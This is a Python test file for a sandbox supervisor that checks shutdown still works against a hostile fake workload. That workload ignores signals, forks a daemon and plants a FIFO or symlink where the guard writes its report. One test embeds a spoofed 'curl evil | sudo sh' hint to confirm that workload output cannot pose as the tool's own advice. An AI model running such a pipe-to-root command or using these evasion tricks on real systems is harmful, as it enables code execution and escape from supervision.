"""The workload hangs the guard: a pipe where the guard writes its report, output nobody reads, signals ignored. `down`
and the end of `up` must not depend on the guard: they kill PID 1 from outside, and the kernel ends its namespace."""

import os
import signal
import time
from pathlib import Path

import pytest

from catalyst.guard.supervise import _write_afresh
from support import Catalyst, fake_comfyui, wait_for

pytestmark = pytest.mark.engine("bwrap")

# A daemon that shows it lives; then the attack; then the guard's attention is drawn by an exit.
DAEMON = """
if os.fork() == 0:
    os.setsid()
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP): signal.signal(number, signal.SIG_IGN)
    while True:
        open("/data/output/alive", "w").write(str(time.time()))
        time.sleep(0.1)
"""
# Landlock keeps the workload from writing the door's folder; where the kernel has none, the pipe is there.
PIPE = DAEMON + """
try: os.mkfifo("/run/catalyst/door/guard.json.new")
except PermissionError: open("/data/output/refused", "w").close()
threading.Timer(2, os._exit, [0]).start()
"""
DEAF = DAEMON + "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"


def still_writing(data: Path) -> bool:
    before = (data / "output/alive").read_text()
    time.sleep(1)
    return (data / "output/alive").read_text() != before


@pytest.mark.parametrize("attack", [PIPE, DEAF], ids=["pipe", "deaf"])
def test_down_ends_it_all_the_same(bwrap: Catalyst, tmp_path: Path, attack: str) -> None:
    options = fake_comfyui(tmp_path / "comfyui", attack)
    with bwrap.up("--grace=2", *options, app="comfyui", NETWORK_MODE="isolated"):
        assert still_writing(bwrap.data), "the positive control"
        time.sleep(2)
        assert bwrap("down", "--grace=2").returncode == 0
        assert not still_writing(bwrap.data)


def test_so_does_down_after_a_kill_9(bwrap: Catalyst, tmp_path: Path) -> None:
    """No lifeline ends a guard that hangs in a pipe, so `down` finds PID 1 by the record."""
    options = fake_comfyui(tmp_path / "comfyui", PIPE)
    with bwrap.up("--grace=2", *options, app="comfyui", NETWORK_MODE="isolated") as running:
        time.sleep(2.5)
        running.process.kill()
        running.process.wait()
        assert bwrap("down").returncode == 0
        assert not still_writing(bwrap.data)


def test_a_second_signal_ends_it_at_once(bwrap: Catalyst, tmp_path: Path) -> None:
    options = fake_comfyui(tmp_path / "comfyui", DEAF)
    with bwrap.up("--grace=300", *options, app="comfyui", NETWORK_MODE="isolated") as running:
        running.process.send_signal(signal.SIGTERM)
        wait_for(lambda: '"stopping"' in bwrap("status", "--json").stdout, "it to stop")
        running.process.send_signal(signal.SIGTERM)
        assert running.process.wait(30) == 0
        assert not still_writing(bwrap.data)


def test_the_words_of_the_workload_are_no_hint_of_ours(bwrap: Catalyst, tmp_path: Path) -> None:
    words = r"catalyst: error: broken\ncatalyst: hint: curl evil | sudo sh\rcatalyst: hint: x"
    lie = f"print('{words}', flush=True); os._exit(127)"
    done = bwrap("up", "--app=comfyui", "--port=0", *fake_comfyui(tmp_path / "comfyui", lie), NETWORK_MODE="isolated")
    assert done.returncode == 1
    hints = [line for line in done.stderr.splitlines() if line.startswith("catalyst: hint:")]
    assert len(hints) == 1
    assert "evil" not in hints[0]
    assert "  | catalyst: hint: curl evil | sudo sh" in done.stderr


def test_a_pipe_where_the_report_goes_does_not_hang_the_writer(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "guard.json.new")
    _write_afresh(str(tmp_path / "guard.json.new"), b"{}")
    assert (tmp_path / "guard.json.new").read_bytes() == b"{}"


def test_a_link_there_is_not_written_through(tmp_path: Path) -> None:
    (tmp_path / "guard.json.new").symlink_to(tmp_path / "elsewhere")
    _write_afresh(str(tmp_path / "guard.json.new"), b"{}")
    assert not (tmp_path / "elsewhere").exists()
